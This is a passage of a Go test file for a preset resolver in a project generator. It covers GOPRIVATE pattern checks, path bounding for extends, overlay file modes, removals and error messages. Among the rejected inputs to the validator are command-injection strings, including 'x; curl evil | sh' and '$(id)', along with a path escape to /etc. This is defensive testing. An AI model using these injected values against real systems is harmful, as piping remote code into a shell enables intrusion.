			t.Errorf("Resolve(%s): %v, want the repeated entry refused", name, err)
		}
	}
}

func TestCheckGoPrivate(t *testing.T) {
	for _, ok := range []string{"gitlab.acme.example/*", "*.corp.example,rsc.io/private", "example.com/[ab]c/?x", "a.example"} {
		if err := CheckGoPrivate(ok); err != nil {
			t.Errorf("CheckGoPrivate(%q) = %v", ok, err)
		}
	}
	for _, bad := range []string{"", "a b", "x/*\"\n  EVIL: \"y", "x; curl evil | sh", "a,,b", "a/$(id)", "a/`id`", "a/[x", "a//b", "/a", "a/"} {
		if err := CheckGoPrivate(bad); err == nil {
			t.Errorf("CheckGoPrivate(%q) = nil, want an error", bad)
		}
	}
	// Patterns that turn checksum verification off for public modules.
	for _, tt := range []struct{ pattern, want string }{
		{"*", `the host "*" must be a domain name`},
		{"*/*", `the host "*" must be a domain name`},
		{"*.com", `the host "*.com" must be a domain name`},
		{"gitlab.acme.example/*,*.com", `pattern "*.com"`},
		{"git*.acme.example", "no wildcard"},
		{"localhost/x", "with a dot"},
		{"github.com", "turns checksum verification off for every module on github.com"},
		{"github.com/*", "every module on github.com"},
		{"golang.org/*", "every module on golang.org"},
		{"*.golang.org", "every module on google.golang.org"},
		{"*.example", `the host "*.example" must be a domain name`},
		{"github.com/gin-gonic/*", "covers github.com/gin-gonic/gin, which generated projects fetch from the public module proxy"},
		{"github.com/acme/*,github.com/KimMachineGun", `pattern "github.com/KimMachineGun" covers github.com/KimMachineGun/automemlimit`},
		{"golang.org/x", "covers golang.org/x/"},
		{"*.co.uk", "co.uk is a public suffix"},
		{"gitlab.acme.example/*,*.com.au/x/*", "com.au is a public suffix"},
		{"*.github.io", "github.io is a public suffix"},
		{"git.sr.ht/*", "every module on git.sr.ht"},
	} {
		if err := CheckGoPrivate(tt.pattern); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("CheckGoPrivate(%q) = %v, want %q", tt.pattern, err, tt.want)
		}
	}
	for _, ok := range []string{"github.com/acme/*", "github.com/acme", "gitlab.com/acme/platform/*", "git.sr.ht/~acme/*", "*.acme.example", "*.acme.co.uk", "*.acme.github.io"} {
		if err := CheckGoPrivate(ok); err != nil {
			t.Errorf("CheckGoPrivate(%q) = %v", ok, err)
		}
	}
}

// TestNarrowingALockedModulePrefix: under a locked module_prefix a pack may set a
// prefix inside it.
func TestNarrowingALockedModulePrefix(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/acme/team\n", "p/org/preset.yaml": orgPack})
	p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
	if err != nil {
		t.Fatal(err)
	}
	if p.ModulePrefix != "github.com/acme/team" || !p.ModulePrefixLocked {
		t.Errorf("prefix %q locked %v, want github.com/acme/team locked", p.ModulePrefix, p.ModulePrefixLocked)
	}
}

// TestDirectoryWithAnAt: a path with '@' in it (every directory of the module cache) is a
// directory, not MODULE@VERSION.
func TestDirectoryWithAnAt(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"presets@v1.4.0/acme/preset.yaml": "name: acme\n"})
	r := Resolver{Dir: dir}
	for _, ref := range []string{"./presets@v1.4.0/acme", filepath.Join(dir, "presets@v1.4.0", "acme")} {
		p, err := r.Resolve(context.Background(), ref)
		if err != nil || p.Name != "acme" {
			t.Errorf("Resolve(%s) = %s, %v; want the directory's pack acme", ref, p.Name, err)
		}
		if _, err := r.Recorded(context.Background(), generator.RecordPreset{Name: "acme", Source: ref}); err != nil {
			t.Errorf("Recorded(%s): %v", ref, err)
		}
	}
}

// A directory pack is bounded by the checkout or module holding it (the nearest go.mod or
// .git at or above it), as the same tree published as MODULE@VERSION/subdir is bounded by
// the module: a sibling pack is reachable, nothing above that root, no symbolic link.
func TestSiblingPacksInACheckout(t *testing.T) {
	const base = "name: base\nanswers:\n  framework: echo\nlocked: [framework]\n"
	const acme = "name: acme\nextends: ../base\nanswers:\n  ci: gitlab\n"
	tests := []struct {
		name  string
		files map[string]string
		setup func(t *testing.T, dir string)
		ref   string
		want  string // the error, or "" for the chain base,acme
	}{
		{name: "module root", files: map[string]string{"go.mod": "module example.com/org/presets\n", "presets/base/preset.yaml": base, "presets/acme/preset.yaml": acme}, ref: "./presets/acme"},
		{name: "module root in a subdirectory", files: map[string]string{"presets/go.mod": "module example.com/org/presets\n", "presets/base/preset.yaml": base, "presets/acme/preset.yaml": acme}, ref: "./presets/acme"},
		{name: "checkout root", files: map[string]string{".git/HEAD": "ref: refs/heads/main\n", "presets/base/preset.yaml": base, "presets/acme/preset.yaml": acme}, ref: "./presets/acme"},
		{name: "worktree checkout (.git file)", files: map[string]string{".git": "gitdir: /elsewhere\n", "base/preset.yaml": base, "acme/preset.yaml": acme}, ref: "./acme"},
		{name: "pack reached through a symlink", files: map[string]string{"repo/go.mod": "module example.com/org/presets\n", "repo/base/preset.yaml": base, "repo/acme/preset.yaml": acme}, setup: func(t *testing.T, dir string) {
			if err := os.Symlink(filepath.Join(dir, "repo/acme"), filepath.Join(dir, "link")); err != nil {
				t.Fatal(err)
			}
		}, ref: "./link"},
		{name: "no checkout above", files: map[string]string{"base/preset.yaml": base, "acme/preset.yaml": acme}, ref: "./acme",
			want: `acme/preset.yaml:2:10: extends "../base": must be a built-in name or a relative path that stays inside the pack's tree (its directory: no go.mod or .git above it`},
		{name: "leaving the module", files: map[string]string{"presets/go.mod": "module example.com/org/presets\n", "base/preset.yaml": base, "presets/acme/preset.yaml": "name: acme\nextends: ../../base\n"}, ref: "./presets/acme",
			want: `presets/acme/preset.yaml:2:10: extends "../../base": must be a built-in name or a relative path that stays inside the pack's tree (`},
		{name: "a pack that is its own module", files: map[string]string{"acme/go.mod": "module example.com/org/acme\n", "base/preset.yaml": base, "acme/preset.yaml": acme, "go.mod": "module example.com/org\n"}, ref: "./acme",
			want: `stays inside the pack's tree (`},
		{name: "sibling through a symlink", files: map[string]string{"go.mod": "module example.com/org/presets\n", "elsewhere/preset.yaml": base, "acme/preset.yaml": acme}, setup: func(t *testing.T, dir string) {
			if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(dir, "base")); err != nil {
				t.Fatal(err)
			}
		}, ref: "./acme", want: "symbolic links are not allowed"},
		{name: "a sibling named by a bare name", files: map[string]string{"go.mod": "module example.com/org/presets\n", "base/preset.yaml": base, "acme/preset.yaml": "name: acme\nextends: base\n"}, ref: "./acme",
			want: `acme/preset.yaml:2:10: extends "base": unknown preset "base": built-in presets are default, minimal; a directory needs a path relative to this pack: ../base for the pack beside it`},
		{name: "a sibling named by a bare name no built-in's could be", files: map[string]string{"go.mod": "module example.com/org/presets\n", "Base/preset.yaml": base, "acme/preset.yaml": "name: acme\nextends: Base\n"}, ref: "./acme",
			want: `acme/preset.yaml:2:10: extends "Base": no directory Base in the pack, and no built-in preset of that name: built-in presets are default, minimal (in lower case); a directory needs a path relative to this pack: ../Base for the pack beside it`},
		{name: "a sibling named by a bare name, no checkout above", files: map[string]string{"base/preset.yaml": base, "acme/preset.yaml": "name: acme\nextends: base\n"}, ref: "./acme",
			want: `acme/preset.yaml:2:10: extends "base": unknown preset "base": built-in presets are default, minimal; a directory needs a path relative to this pack, such as ./base below it; a pack beside it (../base) can be extended only inside a checkout: a go.mod or .git above both, and none is above this pack`},
		{name: "a sibling named by a bare name no built-in's could be, no checkout above", files: map[string]string{"Base/preset.yaml": base, "acme/preset.yaml": "name: acme\nextends: Base\n"}, ref: "./acme",
			want: `built-in presets are default, minimal (in lower case); a directory needs a path relative to this pack, such as ./Base below it; a pack beside it (../Base) can be extended only inside a checkout: a go.mod or .git above both`},
		{name: "a sibling named by a bare name of a pack that is its own module", files: map[string]string{"acme/go.mod": "module example.com/org/acme\n", "base/preset.yaml": base, "acme/preset.yaml": "name: acme\nextends: base\n"}, ref: "./acme",
			want: `a directory needs a path relative to this pack, such as ./base below it; a pack beside it (../base) is outside the pack's tree (`},
		{name: "absolute extends in a checkout", files: map[string]string{"go.mod": "module example.com/org/presets\n", "acme/preset.yaml": "name: acme\nextends: /etc\n"}, ref: "./acme", want: "stays inside the pack's tree"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, tt.files)
			if tt.setup != nil {
				tt.setup(t, dir)
			}
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), tt.ref)
			if tt.want != "" {
				if err == nil || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("err = %v, want it to contain %q", err, tt.want)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(p.Chain, ","); got != "base,acme" || p.Source != tt.ref {
				t.Errorf("chain %s source %s", got, p.Source)
			}
			if _, err := (Resolver{Dir: dir}).Recorded(context.Background(), generator.RecordPreset{Name: "acme", Source: tt.ref}); err != nil {
				t.Errorf("Recorded: %v", err)
			}
		})
	}
}

// TestExecutableOverlay: the templates a pack lists under executable are rendered with
// mode 0755, through the chain and when an extending pack replaces the template; the mode
// of a template file on disk does not count (a module zip keeps none).
func TestExecutableOverlay(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"p/base/preset.yaml":                    "name: base\nexecutable: [scripts/deploy.sh.tmpl]\n",
		"p/base/overlay/scripts/deploy.sh.tmpl": "#!/bin/sh\necho base\n",
		"p/base/overlay/scripts/notes.txt.tmpl": "notes\n",
		"p/preset.yaml":                         "name: p\nextends: ./base\nexecutable: [Makefile.tmpl]\n",
		"p/overlay/scripts/deploy.sh.tmpl":      "#!/bin/sh\necho {{.Name}}\n",
		"p/overlay/Makefile.tmpl":               "all:\n\t@true\n",
		"p/overlay/hooks/run.sh.tmpl":           "#!/bin/sh\n",
	})
	if err := os.Chmod(filepath.Join(dir, "p/overlay/hooks/run.sh.tmpl"), 0o755); err != nil {
		t.Fatal(err)
	}
	p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"scripts/deploy.sh.tmpl", "Makefile.tmpl"}; !slices.Equal(p.Executable, want) {
		t.Errorf("executable %q, want %q", p.Executable, want)
	}
	a, _, err := answers.Resolve(p.Answers, moduleLayer("example.com/orders"))
	if err != nil {
		t.Fatal(err)
	}
	files, err := generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]fs.FileMode{"scripts/deploy.sh": 0o755, "Makefile": 0o755, "scripts/notes.txt": 0o644, "hooks/run.sh": 0o644, "go.mod": 0o644}
	for _, f := range files {
		if m, ok := want[f.Path]; ok {
			if f.Mode != m {
				t.Errorf("%s: mode %04o, want %04o", f.Path, f.Mode, m)
			}
			delete(want, f.Path)
		}
	}
	if len(want) > 0 {
		t.Errorf("not rendered: %v", want)
	}
}

// TestRemoveAndOverlayInAChain checks how a removal and an overlay template for the same
// path meet: a pack's own template is written (the removal keeps the built-in one out),
// and a removal takes out the templates of the packs it extends.
func TestRemoveAndOverlayInAChain(t *testing.T) {
	tests := []struct {
		name    string
		files   map[string]string
		overlay []string          // the merged overlay's templates
		written map[string]string // path -> content; "" for a file that must not exist
		shown   map[string][]string
	}{
		{
			name: "an extending pack's template for a path its base removes",
			files: map[string]string{
				"p/base/preset.yaml":        "name: base\nextends: default\nremove: [Dockerfile]\n",
				"p/preset.yaml":             "name: p\nextends: ./base\n",
				"p/overlay/Dockerfile.tmpl": "FROM scratch\n# {{.Name}}\n",
			},
			overlay: []string{"Dockerfile.tmpl"},
			written: map[string]string{"Dockerfile": "FROM scratch\n# orders\n"},
			shown:   map[string][]string{"Dockerfile": {"Dockerfile.tmpl"}},
		},
		{
			name: "one pack removes a path and ships a template for it",
			files: map[string]string{
				"p/preset.yaml":                   "name: p\nextends: default\nremove: [k8s/service.yaml]\n",
				"p/overlay/k8s/service.yaml.tmpl": "kind: Service\n",
			},
			overlay: []string{"k8s/service.yaml.tmpl"},
			written: map[string]string{"k8s/service.yaml": "kind: Service\n"},
			shown:   map[string][]string{"k8s/service.yaml": {"k8s/service.yaml.tmpl"}},
		},
		{
			name: "an extending pack removes a path its base ships a template for",
			files: map[string]string{
				"p/base/preset.yaml":                   "name: base\nextends: default\n",
				"p/base/overlay/k8s/service.yaml.tmpl": "kind: Service\n",
				"p/base/overlay/CODEOWNERS.tmpl":       "* @acme\n",
				"p/preset.yaml":                        "name: p\nextends: ./base\nremove: [k8s/service.yaml]\n",
			},
			overlay: []string{"CODEOWNERS.tmpl"},
			written: map[string]string{"k8s/service.yaml": "", "CODEOWNERS": "* @acme\n"},
			shown:   map[string][]string{},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, tt.files)
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
			if err != nil {
				t.Fatal(err)
			}
			if got := p.OverlayFiles(); !slices.Equal(got, tt.overlay) {
				t.Errorf("overlay %q, want %q", got, tt.overlay)
			}
			shown, err := p.RemovedFor()
			if err != nil {
				t.Fatal(err)
			}
			if len(shown) != len(tt.shown) {
				t.Errorf("RemovedFor = %v, want %v", shown, tt.shown)
			}
			for r, names := range tt.shown {
				if !slices.Equal(shown[r], names) {
					t.Errorf("RemovedFor()[%s] = %q, want %q", r, shown[r], names)
				}
			}
			a, _, err := p.Resolve(moduleLayer("example.com/acme/orders"))
			if err != nil {
				t.Fatal(err)
			}
			files, err := generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
			if err != nil {
				t.Fatal(err)
			}
			for path, want := range tt.written {
				i := slices.IndexFunc(files, func(f generator.File) bool { return f.Path == path })
				switch {
				case want == "" && i >= 0:
					t.Errorf("%s written, want no file", path)
				case want != "" && i < 0:
					t.Errorf("%s not written", path)
				case want != "" && string(files[i].Content) != want:
					t.Errorf("%s = %q, want %q", path, files[i].Content, want)
				}
			}
		})
	}
}

// TestReplacedMakefileDropsItsVersionTest checks that the generated test of the built-in
// Makefile's versioning is not rendered when a pack writes its own Makefile or removes
// it: it would test a file the project does not have.
func TestReplacedMakefileDropsItsVersionTest(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		want  bool
	}{
		{"built-in Makefile", map[string]string{"p/preset.yaml": "name: p\nextends: default\n"}, true},
		{"the pack's Makefile", map[string]string{"p/preset.yaml": "name: p\nextends: default\n", "p/overlay/Makefile.tmpl": "build:\n\tgo build ./...\n"}, false},
		{"no Makefile", map[string]string{"p/preset.yaml": "name: p\nextends: default\nanswers: {features: [docker]}\nremove: [Makefile]\n"}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, tt.files)
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
			if err != nil {
				t.Fatal(err)
			}
			a, _, err := p.Resolve(moduleLayer("example.com/acme/orders"))
			if err != nil {
				t.Fatal(err)
			}
			files, err := generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
			if err != nil {
				t.Fatal(err)
			}
			i := slices.IndexFunc(files, func(f generator.File) bool { return f.Path == "cmd/orders/main_test.go" })
			if i < 0 {
				t.Fatal("cmd/orders/main_test.go not rendered")
			}
			if got := strings.Contains(string(files[i].Content), "func TestMakefileVersion("); got != tt.want {
				t.Errorf("TestMakefileVersion rendered: %v, want %v", got, tt.want)
			}
		})
	}
}

// TestLockedModulePrefixNamesWhere: a module outside a locked module_prefix is named at
// the line that gave it (an answers file, a flag, the pack's own answers) and the pack
// line that sets the prefix, as a contradicted locked answer is.
func TestLockedModulePrefixNamesWhere(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"p/preset.yaml":     "name: p\nextends: ./org\nmodule_prefix: github.com/acme/team\n",
		"p/org/preset.yaml": orgPack,
		"own/preset.yaml":   "name: own\nmodule_prefix: gitlab.acme.example/svc\nanswers:\n  module: example.com/x/orders\nlocked: [module_prefix]\n",
	})
	file := answers.Layer{Source: answers.FromFile, Name: "ans.yaml"}
	file.Set(answers.KeyModule, "example.com/x/orders", "ans.yaml:2:9")
	tests := []struct {
		pack   string
		layers []answers.Layer
		want   string
	}{
		{"./p", []answers.Layer{file}, `ans.yaml:2:9: invalid module "example.com/x/orders": preset p requires modules under github.com/acme/team/ (module_prefix is locked, p/preset.yaml:3:16)`},
		{"./p", []answers.Layer{moduleLayer("example.com/x/orders")}, "--module: invalid module"},
		{"./own", nil, `own/preset.yaml:4:11: invalid module "example.com/x/orders": preset own requires modules under gitlab.acme.example/svc/ (module_prefix is locked, own/preset.yaml:2:16)`},
	}
	for _, tt := range tests {
		p, err := Resolver{Dir: dir}.Resolve(context.Background(), tt.pack)
		if err != nil {
			t.Fatal(err)
		}
		_, _, err = p.Resolve(tt.layers...)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: Resolve = %v, want %q", tt.pack, err, tt.want)
		}
	}
}

// TestExtendsOfADirectoryWithoutAPack checks that an extends naming a directory of the
// tree that holds no preset.yaml, is not there, or is a file, is refused naming the extends (file:line),
// the directory, what is missing and what to do.
func TestExtendsOfADirectoryWithoutAPack(t *testing.T) {
	tests := []struct {
		extends string
		want    []string
	}{
		{"../base", []string{`packs/child/preset.yaml:2:10: extends "../base": packs/base holds no preset.yaml`, "correct the path", "or add packs/base/preset.yaml"}},
		{"..", []string{`packs/child/preset.yaml:2:10: extends "..": packs holds no preset.yaml`, "or add packs/preset.yaml"}},
		{"../base/README.md", []string{`packs/child/preset.yaml:2:10: extends "../base/README.md": packs/base/README.md is a file, not a pack's directory`}},
		{"../bsae", []string{`packs/child/preset.yaml:2:10: extends "../bsae": there is no directory packs/bsae, so no pack`, "correct the path", "or add packs/bsae/preset.yaml"}},
		{"../bsae/team", []string{`packs/child/preset.yaml:2:10: extends "../bsae/team": there is no directory packs/bsae/team, so no pack`, "or add packs/bsae/team/preset.yaml"}},
	}
	for _, tt := range tests {
		t.Run(tt.extends, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{
				"packs/go.mod":            "module example.com/packs\n",
				"packs/base/README.md":    "# the base pack lives here\n",
				"packs/child/preset.yaml": "name: child\nextends: " + tt.extends + "\n",
			})
			_, err := Resolver{Dir: dir}.Resolve(context.Background(), "./packs/child")
			if err == nil {
				t.Fatal("accepted")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
		})
	}
}

// TestRenderErrorsNameThePackFile checks that an error found while rendering an overlay
// template inherited through extends (a field the data lacks, a failing function, an
// output path, or one refused: taken, in .git, a case twin, under a file; a Go file that
// does not parse) names the file of the pack that holds it,
// file:line, as the loader's parse errors do, not the template's bare name.
func TestRenderErrorsNameThePackFile(t *testing.T) {
	tests := []struct {
		name, template, text, want string
	}{
		{"unknown field", "X.tmpl", "owners\n{{if .Features.K8s}}{{.Owner}}{{end}}\n", "template: packs/base/overlay/X.tmpl:2:22: executing \"packs/base/overlay/X.tmpl\""},
		{"failing function", "Y.tmpl", "{{fail \"no\"}}\n", "template: packs/base/overlay/Y.tmpl:1:2: executing \"packs/base/overlay/Y.tmpl\""},
		{"output path", "{{.Owner}}.txt.tmpl", "x\n", "path of packs/base/overlay/{{.Owner}}.txt.tmpl"},
		{"go file", "internal/x/x.go.tmpl", "package x\nfunc {\n", "packs/base/overlay/internal/x/x.go.tmpl"},
		{"output path taken", `{{if .Name}}README.md{{end}}.tmpl`, "x\n", `render packs/base/overlay/{{if .Name}}README.md{{end}}.tmpl: output path README.md is also rendered from project/README.md.tmpl`},
		{"output path in .git", `{{if .Name}}.GIT{{end}}/config.tmpl`, "x\n", `render packs/base/overlay/{{if .Name}}.GIT{{end}}/config.tmpl: output path .GIT/config`},
		{"output path a case twin", `{{if .Name}}makefile{{end}}.tmpl`, "x\n", `render packs/base/overlay/{{if .Name}}makefile{{end}}.tmpl: output path makefile differs only in letter case from Makefile, rendered from project/Makefile.tmpl`},
		{"output path under a file", `{{if .Name}}Makefile{{end}}/x.tmpl`, "x\n", `output path Makefile is a file, but Makefile/x, rendered from packs/base/overlay/{{if .Name}}Makefile{{end}}/x.tmpl, needs a directory there`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{
				"packs/go.mod":                      "module example.com/packs\n",
				"packs/base/preset.yaml":            "name: base\nextends: default\n",
				"packs/base/overlay/" + tt.template: tt.text,
				"packs/child/preset.yaml":           "name: child\nextends: ../base\n",
			})
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./packs/child")
			if err != nil {
				t.Fatal(err)
			}
			a, _, err := p.Resolve(moduleLayer("example.com/acme/orders"))
			if err != nil {
				t.Fatal(err)
			}
			_, err = generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("render: %v, want an error holding %q", err, tt.want)
			}
		})
	}
}

// TestRemoveErrorsNameTheEntry checks that a refused removal names the remove entry of
// the pack that holds it, file:line:column, an extended pack's too.
func TestRemoveErrorsNameTheEntry(t *testing.T) {
	tests := []struct {
		name, base, child, want string
	}{
		{"a file a built-in calls", "remove: [Dockerfile]\n", "", "packs/base/preset.yaml:3:10: remove Dockerfile: the built-in Makefile builds the image from it"},
		{"in the extending pack", "", "remove:\n  - README.md\n  - Dockerfile\n", "packs/child/preset.yaml:5:5: remove Dockerfile: the built-in Makefile"},
		{"go.mod", "", "remove: [go.mod]\n", "packs/child/preset.yaml:3:10: remove go.mod: the project cannot do without it"},
		{"go.sum", "remove: [go.sum]\n", "", "packs/base/preset.yaml:3:10: remove go.sum: the project cannot do without it"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{
				"packs/go.mod":            "module example.com/packs\n",
				"packs/base/preset.yaml":  "name: base\nextends: default\n" + tt.base,
				"packs/child/preset.yaml": "name: child\nextends: ../base\n" + tt.child,
			})
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./packs/child")
			if err != nil {
				t.Fatal(err)
			}
			a, _, err := p.Resolve(moduleLayer("example.com/acme/orders"))
			if err != nil {
				t.Fatal(err)
			}
			_, err = generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Errorf("render: %v, want an error starting %q", err, tt.want)
			}
		})
	}
}

// TestCheckoutPackAgreesWithItsModuleZip checks that a directory pack inside a module
// (a go.mod at or above it) resolves only when every file of it, and of the packs of
// the module it extends, is in the zip the go command makes of a version of that module
// (golang.org/x/mod/zip, as proxy.golang.org and go mod download make it): a file the zip
// leaves out (under a vendor directory, in a nested module) or cannot hold (a Windows
// reserved name) is refused, naming it and why, so that a checkout never validates while
// its tagged module lacks files. A checkout that is no module is not judged.
func TestCheckoutPackAgreesWithItsModuleZip(t *testing.T) {
	const mod = "module example.com/presets\n"
	tests := []struct {
		name  string
		files map[string]string // besides presets/acme/preset.yaml
		want  string            // in the error; "" when the pack resolves
	}{
		{"plain overlay", map[string]string{"presets/go.mod": mod + "\ngo 1.22\n", "presets/acme/overlay/CODEOWNERS.tmpl": "*\n"}, ""},
		{"file under a nested vendor directory, go 1.22", map[string]string{"presets/go.mod": mod + "\ngo 1.22\n", "presets/acme/overlay/deploy/vendor/values.yaml.tmpl": "x\n"},
			"presets/acme/overlay/deploy/vendor/values.yaml.tmpl: the zip of module example.com/presets, which the go command makes of every version fetched, leaves it out (file is in vendor directory)"},
		{"file under a nested vendor directory, no go line", map[string]string{"presets/go.mod": mod, "presets/acme/overlay/.github/vendor/scan.yml.tmpl": "x\n"},
			"presets/acme/overlay/.github/vendor/scan.yml.tmpl: the zip of module example.com/presets"},
		{"file right in a nested vendor directory, go 1.24", map[string]string{"presets/go.mod": mod + "\ngo 1.24\n", "presets/acme/overlay/deploy/vendor/values.yaml.tmpl": "x\n"}, ""},
		{"vendored package, go 1.24", map[string]string{"presets/go.mod": mod + "\ngo 1.24\n", "presets/acme/overlay/vendor/example.com/x/x.go.tmpl": "package x\n"},
			"presets/acme/overlay/vendor/example.com/x/x.go.tmpl: the zip of module example.com/presets"},
		{"pack in a nested module it extends", map[string]string{"presets/go.mod": mod, "presets/acme/preset.yaml": "name: acme\nextends: ../sub/base\n", "presets/sub/go.mod": "module example.com/presets/sub\n", "presets/sub/base/preset.yaml": "name: base\n"},
			"presets/sub/base/preset.yaml: the zip of module example.com/presets, which the go command makes of every version fetched, leaves it out (file is in another module)"},
		{"name a zip cannot hold", map[string]string{"presets/go.mod": mod, "presets/acme/overlay/aux.md.tmpl": "x\n"},
			"presets/acme/overlay/aux.md.tmpl: a zip of module example.com/presets cannot hold it"},
		{"checkout that is no module", map[string]string{"presets/.git/HEAD": "ref: refs/heads/main\n", "presets/acme/overlay/deploy/vendor/values.yaml.tmpl": "x\n"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			files := maps.Clone(tt.files)
			if _, ok := files["presets/acme/preset.yaml"]; !ok {
				files["presets/acme/preset.yaml"] = "name: acme\nextends: minimal\n"
			}
			writeTree(t, dir, files)
			_, err := Resolver{Dir: dir}.Resolve(context.Background(), "./presets/acme")
			if tt.want != "" {
				if err == nil || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("err = %v, want it to contain %q", err, tt.want)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if _, ok := files["presets/go.mod"]; !ok {
				return // no module: nothing to compare with
			}
			// Accepted: the module's zip holds every file of the checkout.
			var zipped bytes.Buffer
			v := module.Version{Path: "example.com/presets", Version: "v1.0.0"}
			if err := modzip.CreateFromDir(&zipped, v, filepath.Join(dir, "presets")); err != nil {
				t.Fatal(err)
			}
			zr, err := zip.NewReader(bytes.NewReader(zipped.Bytes()), int64(zipped.Len()))
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, f := range zr.File {
				names = append(names, strings.TrimPrefix(f.Name, v.Path+"@"+v.Version+"/"))
			}
			for p := range files {
				if rel := strings.TrimPrefix(p, "presets/"); !slices.Contains(names, rel) {
					t.Errorf("the module zip lacks %s (it holds %v)", rel, names)
				}
			}
		})
	}
}

// TestRemoveLockedByBase checks that a pack may not remove a built-in file that a lock
// of a pack it extends selects (the org's locked CI provider, a locked feature set's
// k8s), naming both packs and the key, while a removal its own overlay replaces, one
// of a file the locks do not select, one in the locking pack itself, and such a pack
// read again for a project's record are taken.
func TestRemoveLockedByBase(t *testing.T) {
	const base = "name: base\nanswers:\n  ci: gitlab\n  features: [otel, docker, ci, k8s]\nlocked: [ci, features]\n"
	tests := []struct {
		name  string
		files map[string]string
		want  []string // nil when the pack loads
	}{
		{"locked ci provider", map[string]string{"c/preset.yaml": "name: c\nextends: ../b\nremove: [.gitlab-ci.yml]\n"},
			[]string{"c/preset.yaml:3:10: remove .gitlab-ci.yml:", "locks of preset base, ci to gitlab (b/preset.yaml:5:10)", "which preset c extends", "remove the entry"}},
		{"locked feature set", map[string]string{"c/preset.yaml": "name: c\nextends: ../b\nremove: [k8s/deployment.yaml]\n"},
			[]string{"c/preset.yaml:3:10: remove k8s/deployment.yaml:", "features to a set with k8s (b/preset.yaml:5:14)", "preset base", "preset c"}},
		{"through a middle pack", map[string]string{"m/preset.yaml": "name: m\nextends: ../b\n", "c/preset.yaml": "name: c\nextends: ../m\nremove: [.gitlab-ci.yml]\n"},
			[]string{"c/preset.yaml:3:10:", "locks of preset base, ci to gitlab"}},
		{"replaced by its own overlay", map[string]string{"c/preset.yaml": "name: c\nextends: ../b\nremove: [.gitlab-ci.yml]\n", "c/overlay/.gitlab-ci.yml.tmpl": "include: ci.yml\n"}, nil},
		{"a file the locks do not select", map[string]string{"c/preset.yaml": "name: c\nextends: ../b\nremove: [.github/workflows/ci.yml]\n"}, nil},
		{"the locking pack's own removal", map[string]string{"c/preset.yaml": "name: c\nanswers:\n  ci: gitlab\nlocked: [ci]\nremove: [.gitlab-ci.yml]\n"}, nil},
		// Every file the pack drops is named at once, not one per run.
		{"two locked removals", map[string]string{"c/preset.yaml": "name: c\nextends: ../b\nremove: [.gitlab-ci.yml, k8s/deployment.yaml]\n"},
			[]string{"remove .gitlab-ci.yml:", "remove k8s/deployment.yaml:"}},
		{"a locked removal and a blank template of another", map[string]string{"c/preset.yaml": "name: c\nextends: ../b\nremove: [.gitlab-ci.yml]\n", "c/overlay/k8s/deployment.yaml.tmpl": "{{/* none */}}\n"},
			[]string{"c/preset.yaml:3:10: remove .gitlab-ci.yml:", "c/overlay/k8s/deployment.yaml.tmpl: renders nothing whatever the answers"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			files := map[string]string{".git/HEAD": "ref: refs/heads/main\n", "b/preset.yaml": base}
			maps.Copy(files, tt.files)
			writeTree(t, dir, files)
			r := Resolver{Dir: dir}
			_, err := r.Resolve(context.Background(), "./c")
			if tt.want == nil {
				if err != nil {
					t.Fatalf("Resolve: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatal("Resolve: want an error")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
			// A project made from the pack before it was refused keeps it.
			if _, err := r.Recorded(context.Background(), generator.RecordPreset{Name: "c", Source: "./c"}); err != nil {
				t.Errorf("Recorded: %v", err)
			}
		})
	}
}

// TestModuleSubdirAbsolute checks that a module reference whose subdirectory is absolute
// (a double slash: MODULE@v1.0.0//acme) is refused before anything is fetched, naming the
// reference meant, as README's Presets says.
func TestModuleSubdirAbsolute(t *testing.T) {
